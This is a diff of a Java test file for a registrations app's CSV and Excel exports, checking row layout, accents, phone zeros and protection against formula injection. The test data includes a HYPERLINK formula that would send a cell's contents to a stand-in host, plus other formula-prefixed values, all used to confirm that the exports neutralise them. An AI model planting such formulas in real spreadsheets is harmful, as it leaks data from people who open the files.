@@ -1,5 +1,6 @@
 package fr.preau.registrations;
 
+import static fr.preau.base.FrenchSpaces.spaced;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
@@ -7,15 +8,24 @@ import fr.preau.base.Role;
 import fr.preau.registrations.FollowUpFilter.Show;
 import fr.preau.registrations.Town.Family;
 import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.time.Duration;
+import java.util.ArrayList;
 import java.util.Collections;
 import java.util.List;
 import java.util.Set;
+import java.util.regex.Pattern;
 import java.util.zip.ZipFile;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Document;
+import org.jsoup.parser.Parser;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.security.access.AccessDeniedException;
 
@@ -79,38 +89,109 @@ class FollowUpTest extends RegistrationsTest {
     }
 
     @Test
-    void a_name_like_a_formula_is_text_in_the_export_and_a_phone_keeps_its_zero() {
-        for (var cell : new String[] {"=HYPERLINK(1)", "+33", "-1", "@x", "\tx", "\rx"}) {
-            assertThat(Spreadsheets.safe(cell)).startsWith("'");
-        }
-        var csv = asStaff(Role.RECEPTION, () -> {
-            var out = new ByteArrayOutputStream();
-            followUp.exportCsv(FollowUpFilter.of(Show.ALL), out);
-            return out.toString(StandardCharsets.UTF_8);
-        });
+    void an_export_has_a_line_for_each_person_at_each_session() {
+        var series = town.group(centre).series(2).stands();
+        var pair = town.family(centre).named("Petit").adult("Karim").lives();
+        register(pair, series, pair.persons(), PartyRule.WHO_CAN);
+        var only = new FollowUpFilter(Show.ALL, series.activity(), null, null, "");
 
-        assertThat(csv.lines()).hasSize(3);
-        assertThat(csv).startsWith("\uFEFF\"Foyer\"").contains("\"03 20 11 22 33\"", "\"Élodie\"", "\"En attente\"");
+        var lines = cells(csv(only));
+        assertThat(lines).hasSize(1 + 4);
+        var days = column(lines, "Date");
+        assertThat(days).hasSize(4);
+        assertThat(Set.copyOf(days)).hasSize(2);
+        assertThat(lines.stream().skip(1).map(line -> line.get(lines.getFirst().indexOf("Prénom")) + " " + line.get(lines.getFirst().indexOf("Date"))).toList())
+                .containsExactlyInAnyOrder("Amina " + Collections.min(days), "Amina " + Collections.max(days), "Karim " + Collections.min(days), "Karim " + Collections.max(days));
+        assertThat(excelCells(xlsx(only))).as("the same cells on the sheet").isEqualTo(lines);
+    }
+
+    /** As they come into a file: by an activity's title, and by what was in the database before names had rules. */
+    @ParameterizedTest
+    @ValueSource(strings = {"=HYPERLINK(\"http://x.example/?\"&A1;\"Cliquez\")", "+33 6 12", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1"})
+    void a_title_and_a_name_like_a_formula_are_text_in_both_files(String formula) {
+        database.sql("UPDATE activity SET title = :formula WHERE id = :id").param("formula", formula).param("id", group.activity()).update();
+        database.sql("UPDATE person SET first_name = :formula, last_name = :formula WHERE household_id = :id").param("formula", formula).param("id", first.id()).update();
+
+        var lines = cells(csv(FollowUpFilter.of(Show.ALL)));
+        assertThat(column(lines, "Activité")).as("whole, behind an apostrophe").containsExactly("'" + formula, "'" + formula);
+        assertThat(column(lines, "Nom")).contains("'" + formula);
+        assertThat(column(lines, "Prénom")).contains("'" + formula);
+        assertThat(lines).allSatisfy(line -> assertThat(line).noneMatch(cell -> cell.startsWith("=") || cell.startsWith("+") || cell.startsWith("-")
+                || cell.startsWith("@") || cell.startsWith("\t") || cell.startsWith("\r") || cell.startsWith("\n")));
+
+        var sheet = xlsx(FollowUpFilter.of(Show.ALL));
+        assertThat(sheet.select("f")).as("nothing is computed").isEmpty();
+        assertThat(sheet.select("c")).isNotEmpty().allMatch(cell -> cell.attr("t").equals("inlineStr"));
+        assertThat(column(excelCells(sheet), "Activité")).as("as it is").allSatisfy(title -> assertThat(title).isEqualToNormalizingNewlines(formula));
     }
 
     @Test
-    void the_same_lines_go_to_a_real_excel_sheet() throws Exception {
-        var xlsx = asStaff(Role.DIRECTOR, () -> {
+    void a_phone_keeps_its_zero_in_both_files_and_words_their_accents() {
+        var csv = csv(FollowUpFilter.of(Show.ALL));
+        assertThat(csv).startsWith("\uFEFF\"Foyer\";");
+        assertThat(cells(csv)).hasSize(3);
+        assertThat(column(cells(csv), "Téléphone")).contains("03 20 11 22 33");
+        assertThat(column(cells(csv), "Nom")).contains("Élodie", "D’Hondt");
+        assertThat(column(cells(csv), spaced("Où en est-on ?"))).contains("En attente");
+        assertThat(excelCells(xlsx(FollowUpFilter.of(Show.ALL)))).isEqualTo(cells(csv));
+    }
+
+    private String csv(FollowUpFilter filter) {
+        return asStaff(Role.RECEPTION, () -> {
             var out = new ByteArrayOutputStream();
-            followUp.exportXlsx(FollowUpFilter.of(Show.ALL), out);
+            followUp.exportCsv(filter, out);
+            return out.toString(StandardCharsets.UTF_8);
+        });
+    }
+
+    /** Lines and cells as a spreadsheet reads them: quoted, between semicolons, a quote doubled, line breaks within quotes. */
+    private static List<List<String>> cells(String csv) {
+        var lines = new ArrayList<List<String>>();
+        var line = new ArrayList<String>();
+        var cell = Pattern.compile("\"((?:[^\"]|\"\")*)\"(;|\r\n)").matcher(csv.substring(1));
+        int end = 0;
+        while (cell.find()) {
+            assertThat(cell.start()).as("nothing stands between cells").isEqualTo(end);
+            end = cell.end();
+            line.add(cell.group(1).replace("\"\"", "\""));
+            if (!cell.group(2).equals(";")) {
+                lines.add(List.copyOf(line));
+                line.clear();
+            }
+        }
+        assertThat(end).as("read to the end").isEqualTo(csv.length() - 1);
+        return lines;
+    }
+
+    /** The sheet that is in the file. */
+    private Document xlsx(FollowUpFilter filter) {
+        var bytes = asStaff(Role.DIRECTOR, () -> {
+            var out = new ByteArrayOutputStream();
+            followUp.exportXlsx(filter, out);
             return out.toByteArray();
         });
-
-        var file = Files.write(Files.createTempFile("preau", ".xlsx"), xlsx);
-        var content = new StringBuilder();
-        try (var zip = new ZipFile(file.toFile())) {
-            for (var entry : Collections.list(zip.entries())) {
-                content.append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
+        try {
+            var file = Files.write(Files.createTempFile("preau", ".xlsx"), bytes);
+            try (var zip = new ZipFile(file.toFile())) {
+                var sheet = zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes();
+                return Jsoup.parse(new String(sheet, StandardCharsets.UTF_8), "", Parser.xmlParser());
+            } finally {
+                Files.delete(file);
             }
-        } finally {
-            Files.delete(file);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
         }
-        assertThat(content).contains("lodie", "03 20 11 22 33").doesNotContain("<f>");
+    }
+
+    private static List<List<String>> excelCells(Document sheet) {
+        return sheet.select("row").stream().map(row -> row.select("c").stream().map(cell -> cell.select("t").getFirst().wholeText()).toList()).toList();
+    }
+
+    /** What stands below this title. */
+    private static List<String> column(List<List<String>> lines, String title) {
+        int at = lines.getFirst().indexOf(title);
+        assertThat(at).as(title).isNotNegative();
+        return lines.stream().skip(1).map(line -> line.get(at)).toList();
     }
 
     @Test
